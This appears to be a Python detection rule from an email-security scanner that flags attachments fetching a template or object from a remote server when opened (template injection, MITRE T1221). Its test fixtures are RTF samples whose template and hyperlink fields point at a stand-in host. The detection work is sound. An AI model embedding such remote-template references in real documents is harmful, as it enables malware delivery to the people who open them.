"""An attached document fetches a template or an object from a stranger's server when it is opened."""

from __future__ import annotations

from collections.abc import Iterator

from mekiki.checks.form import Confidence, Evidence, Example, Message, Severity, Sighting, Text, check, mail, saw
from mekiki.checks.readings.documents import leading_out
from mekiki.checks.readings.urls import domain_of
from mekiki.model.facts import Domain, Quote

_TEMPLATE = rb"{\rtf1{\*\template https://a.example/t.dotm}Order form}"
_LINKED = rb'{\rtf1{\field{\*\fldinst HYPERLINK "https://a.example/t.dotm"}{\fldrslt Order form}}}'


@check(
    id="attachment.remote-template",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    asks="malware",
    when=("document",),
    title=Text(en="A document that fetches a part of itself", ja="外部から部品を呼び込む文書"),
    found=Text(
        en="Opened in Office, “{name}” fetches a template or an object from {domain} without asking.",
        ja="「{name}」をOfficeで開くと、{domain} からテンプレートやオブジェクトが自動で読み込まれます。",
    ),
    why=Text(
        en="The harmful part is not in the file, so no scanner sees it; it comes when the document is opened.",
        ja="危険な部分はファイルの中になく、開いたときに届きます。そのためウイルス検査では見つかりません。",
    ),
    innocent=Text(
        en="Companies keep their templates on their own server, and such a document keeps the address when it leaves.",
        ja="会社のサーバーにあるテンプレートで作った文書を社外に送ると、その参照先が残ることがあります。",
    ),
    examples=(
        Example(
            mail("x", attachments=(("order.doc", "application/msword", _TEMPLATE),)),
            sees=({"name": "order.doc", "domain": "a.example"},),
        ),
        Example(mail("x", attachments=(("order.doc", "application/msword", _LINKED),))),
        Example(
            mail("x", from_="A <info@a.example>", attachments=(("order.doc", "application/msword", _TEMPLATE),)),
        ),
    ),
    source="MITRE ATT&CK T1221, template injection; ECMA-376 part 1, attachedTemplate",
)
def remote_template(message: Message, evidence: Evidence) -> Iterator[Sighting]:
    for each, found in leading_out(message):
        if any(oddity.startswith("remote-") for oddity in each.oddities):
            fetched = next((link for link in found if link.url in each.remote), None)
            if fetched is not None:
                yield saw(fetched.place, name=Quote(each.name), domain=Domain(domain_of(fetched)))
